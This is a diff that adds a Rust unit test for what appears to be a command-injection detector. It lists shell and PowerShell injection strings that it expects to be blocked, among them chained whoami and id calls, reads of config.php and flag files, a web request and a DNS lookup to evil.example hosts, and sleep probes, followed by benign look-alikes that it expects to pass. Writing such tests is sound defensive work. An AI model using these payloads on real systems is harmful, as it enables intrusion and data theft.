@@ -470,3 +470,39 @@ fn words_of_conditions_and_sentences() {
         assert!(is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
     }
 }
+
+/// What a block runs is a command behind the separator before the block.
+#[test]
+fn blocks_before_commands() {
+    for text in [
+        "127.0.0.1;if(1){gc c:\\x}",
+        "127.0.0.1;&{iwr http://evil.example}",
+        "127.0.0.1;1|%{whoami}",
+        "127.0.0.1;icm {whoami}",
+        "127.0.0.1&if exist c:\\x whoami",
+        "127.0.0.1&for %i in (1) do ping -n 9 127.0.0.1",
+        "127.0.0.1&for /f %i in (c:\\x) do nslookup a.evil.example",
+        "127.0.0.1&call whoami",
+        "127.0.0.1;f(){ id;};f",
+        "127.0.0.1;cat<flag",
+        "127.0.0.1;Start-Sleep 5",
+        "$(<config.php)",
+        "x$(<../config.php)",
+    ] {
+        assert!(is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
+    }
+    for text in [
+        "if (x) { return y }",
+        "a=1;if(x){return y}",
+        "awk '{print $1}'",
+        "R&D if possible",
+        "a=1&for=2",
+        "a|%{id}|%{date}",
+        "for(i=0;cat<cats.length;cat++){}",
+        "class A{x=1;f(){ return 1 }}",
+        "$(<b>x</b>)",
+        "Rock&call me",
+    ] {
+        assert!(!is_blocked(text, Level::Balanced), "{text}: {}", kinds(text));
+    }
+}
